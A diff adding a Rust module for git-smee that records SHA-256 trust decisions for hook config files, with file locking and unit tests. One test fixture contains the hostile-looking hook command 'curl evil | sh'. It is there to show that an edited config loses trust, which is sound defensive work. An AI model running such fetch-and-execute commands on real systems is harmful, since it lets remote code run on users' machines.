@@ -0,0 +1,287 @@
+//! Trust decisions for git-smee config files.
+//!
+//! Hooks run arbitrary commands, so a config is only executed once the user
+//! has trusted its exact contents. Trust is recorded per config path together
+//! with the SHA-256 of the file, so any edit (for example one pulled from a
+//! remote) has to be trusted again. The store is a plain text file at
+//! `$XDG_CONFIG_HOME/git-smee/trust` (falling back to `~/.config/git-smee/trust`,
+//! or `%APPDATA%\git-smee\trust` on Windows), one `<sha256> <path>` entry per
+//! line.
+
+use std::{
+    env, fs,
+    io::{self, Write as _},
+    path::{Path, PathBuf},
+};
+
+use sha2::{Digest as _, Sha256};
+use thiserror::Error;
+
+#[derive(Debug, Error)]
+#[non_exhaustive]
+pub enum Error {
+    #[error("Cannot locate the git-smee trust store: set XDG_CONFIG_HOME or HOME")]
+    NoTrustStoreLocation,
+    #[error("Failed to read the git-smee trust store at {path}: {source}")]
+    ReadFailed { path: String, source: io::Error },
+    #[error("Failed to update the git-smee trust store at {path}: {source}")]
+    WriteFailed { path: String, source: io::Error },
+    #[error(
+        "Refusing to run hooks from untrusted config {config_path} ({reason}); review it, then run `git smee trust` or pass `--trust`. Set GIT_SMEE_TRUST_ALL=1 to skip this check in CI"
+    )]
+    Untrusted { config_path: String, reason: String },
+}
+
+/// Fingerprint of a config file's contents.
+pub fn config_digest(contents: &[u8]) -> String {
+    format!("{:x}", Sha256::digest(contents))
+}
+
+/// Whether `config_path` is trusted, and if not, whether an older version was.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum TrustState {
+    Trusted,
+    Unknown,
+    /// The path was trusted with different contents.
+    Changed {
+        trusted_digest: String,
+    },
+}
+
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct TrustStore {
+    path: PathBuf,
+}
+
+impl TrustStore {
+    pub fn new(path: impl Into<PathBuf>) -> Self {
+        Self { path: path.into() }
+    }
+
+    /// The per-user store, see the module docs for its location.
+    pub fn at_default_location() -> Result<Self, Error> {
+        default_trust_store_path()
+            .map(Self::new)
+            .ok_or(Error::NoTrustStoreLocation)
+    }
+
+    pub fn path(&self) -> &Path {
+        &self.path
+    }
+
+    pub fn state(&self, config_path: &Path, digest: &str) -> Result<TrustState, Error> {
+        let entries = self.entries()?;
+        let config_path = config_path.to_string_lossy();
+        Ok(
+            match entries.iter().find(|(_, path)| *path == config_path) {
+                Some((trusted_digest, _)) if trusted_digest == digest => TrustState::Trusted,
+                Some((trusted_digest, _)) => TrustState::Changed {
+                    trusted_digest: trusted_digest.clone(),
+                },
+                None => TrustState::Unknown,
+            },
+        )
+    }
+
+    /// Records `digest` as the trusted contents of `config_path`, replacing any
+    /// earlier entry for the same path.
+    ///
+    /// Hooks of several repositories and `git smee trust` may update the store
+    /// at the same time. A lock on `<store>.lock` keeps their updates from
+    /// overwriting each other, and the new store is written to a temp file that
+    /// is renamed over the old one, so readers never see a partial file. The
+    /// lock is only taken on Unix.
+    pub fn trust(&self, config_path: &Path, digest: &str) -> Result<(), Error> {
+        let write_error = |source| Error::WriteFailed {
+            path: self.path.display().to_string(),
+            source,
+        };
+        let store_dir = match self.path.parent() {
+            Some(parent) if !parent.as_os_str().is_empty() => parent,
+            _ => Path::new("."),
+        };
+        fs::create_dir_all(store_dir).map_err(write_error)?;
+        let _lock = lock_file(&self.path.with_extension("lock")).map_err(write_error)?;
+
+        let config_path = config_path.to_string_lossy().to_string();
+        let mut entries = self.entries()?;
+        entries.retain(|(_, path)| *path != config_path);
+        entries.push((digest.to_string(), config_path));
+        let contents: String = entries
+            .iter()
+            .map(|(digest, path)| format!("{digest} {path}\n"))
+            .collect();
+        let mut temp_file = tempfile::NamedTempFile::new_in(store_dir).map_err(write_error)?;
+        temp_file
+            .write_all(contents.as_bytes())
+            .map_err(write_error)?;
+        temp_file
+            .persist(&self.path)
+            .map_err(|error| write_error(error.error))?;
+        Ok(())
+    }
+
+    fn entries(&self) -> Result<Vec<(String, String)>, Error> {
+        let contents = match fs::read_to_string(&self.path) {
+            Ok(contents) => contents,
+            Err(error) if error.kind() == io::ErrorKind::NotFound => return Ok(Vec::new()),
+            Err(source) => {
+                return Err(Error::ReadFailed {
+                    path: self.path.display().to_string(),
+                    source,
+                });
+            }
+        };
+        Ok(contents
+            .lines()
+            .filter_map(|line| line.split_once(' '))
+            .map(|(digest, path)| (digest.to_string(), path.to_string()))
+            .collect())
+    }
+}
+
+/// Opens `path` and blocks until this process holds an exclusive advisory
+/// lock on it; dropping the file releases the lock.
+fn lock_file(path: &Path) -> io::Result<fs::File> {
+    let file = fs::OpenOptions::new()
+        .create(true)
+        .truncate(false)
+        .write(true)
+        .open(path)?;
+    #[cfg(unix)]
+    {
+        use std::os::fd::AsRawFd;
+
+        // SAFETY: `flock` only reads the descriptor, which `file` keeps open.
+        while unsafe { libc::flock(file.as_raw_fd(), libc::LOCK_EX) } != 0 {
+            let error = io::Error::last_os_error();
+            if error.kind() != io::ErrorKind::Interrupted {
+                return Err(error);
+            }
+        }
+    }
+    Ok(file)
+}
+
+fn default_trust_store_path() -> Option<PathBuf> {
+    user_config_dir().map(|config_dir| config_dir.join("trust"))
+}
+
+/// git-smee's per-user config directory, e.g. `~/.config/git-smee`.
+pub(crate) fn user_config_dir() -> Option<PathBuf> {
+    let non_empty = |key| env::var_os(key).filter(|value| !value.is_empty());
+    let config_dir = if cfg!(windows) {
+        non_empty("APPDATA").map(PathBuf::from)
+    } else {
+        non_empty("XDG_CONFIG_HOME")
+            .map(PathBuf::from)
+            .or_else(|| non_empty("HOME").map(|home| PathBuf::from(home).join(".config")))
+    }?;
+    Some(config_dir.join("git-smee"))
+}
+
+#[cfg(test)]
+mod tests {
+    use assert2::assert;
+
+    use super::*;
+
+    #[test]
+    fn given_known_inputs_when_hashing_then_sha256_test_vectors_match() {
+        assert!(
+            config_digest(b"")
+                == "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
+        );
+        assert!(
+            config_digest(b"abc")
+                == "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad"
+        );
+        assert!(
+            config_digest(b"abcdbcdecdefdefgefghfghighijhijkijkljklmklmnlmnomnopnopq")
+                == "248d6a61d20638b8e5c026930c3e6039a33ce45964ff2167f6ecedd419db06c1"
+        );
+        assert!(
+            config_digest(&vec![b'a'; 1_000_000])
+                == "cdc76e5c9914fb9281a1c7e284d73e67f1809a48a497200e046d39ccc7112cd0"
+        );
+    }
+
+    #[test]
+    fn given_trusted_config_when_contents_change_then_state_reports_change() {
+        let store_dir = tempfile::tempdir().unwrap();
+        let store = TrustStore::new(store_dir.path().join("git-smee").join("trust"));
+        let config_path = Path::new("/repo/.git-smee.toml");
+        let original = config_digest(b"[[pre-commit]]\ncommand = \"cargo test\"\n");
+        let edited = config_digest(b"[[pre-commit]]\ncommand = \"curl evil | sh\"\n");
+
+        assert!(store.state(config_path, &original).unwrap() == TrustState::Unknown);
+
+        store.trust(config_path, &original).unwrap();
+        assert!(store.state(config_path, &original).unwrap() == TrustState::Trusted);
+        assert!(
+            store.state(config_path, &edited).unwrap()
+                == TrustState::Changed {
+                    trusted_digest: original.clone()
+                }
+        );
+
+        store.trust(config_path, &edited).unwrap();
+        assert!(store.state(config_path, &edited).unwrap() == TrustState::Trusted);
+        let stored = fs::read_to_string(store.path()).unwrap();
+        assert!(stored == format!("{edited} /repo/.git-smee.toml\n"));
+    }
+
+    #[cfg(unix)]
+    #[test]
+    fn given_concurrent_trust_calls_when_updating_store_then_no_entry_is_lost() {
+        let store_dir = tempfile::tempdir().unwrap();
+        let store = TrustStore::new(store_dir.path().join("git-smee").join("trust"));
+
+        std::thread::scope(|scope| {
+            for index in 0..16 {
+                let store = &store;
+                scope.spawn(move || {
+                    let config_path = PathBuf::from(format!("/repo-{index}/.git-smee.toml"));
+                    store
+                        .trust(&config_path, &format!("digest-{index}"))
+                        .unwrap();
+                });
+            }
+        });
+
+        for index in 0..16 {
+            let config_path = PathBuf::from(format!("/repo-{index}/.git-smee.toml"));
+            assert!(
+                store
+                    .state(&config_path, &format!("digest-{index}"))
+                    .unwrap()
+                    == TrustState::Trusted
+            );
+        }
+        let leftovers: Vec<_> = fs::read_dir(store_dir.path().join("git-smee"))
+            .unwrap()
+            .map(|entry| entry.unwrap().file_name())
+            .collect();
+        assert!(leftovers.len() == 2, "unexpected files: {leftovers:?}");
+    }
+
+    #[test]
+    fn given_path_with_spaces_when_trusting_then_entry_round_trips() {
+        let store_dir = tempfile::tempdir().unwrap();
+        let store = TrustStore::new(store_dir.path().join("trust"));
+        let config_path = Path::new("/work/my repo/.git-smee.toml");
+
+        store.trust(config_path, "abc").unwrap();
+        store
+            .trust(Path::new("/other/.git-smee.toml"), "def")
+            .unwrap();
+
+        assert!(store.state(config_path, "abc").unwrap() == TrustState::Trusted);
+        assert!(
+            store
+                .state(Path::new("/other/.git-smee.toml"), "def")
+                .unwrap()
+                == TrustState::Trusted
+        );
+    }
+}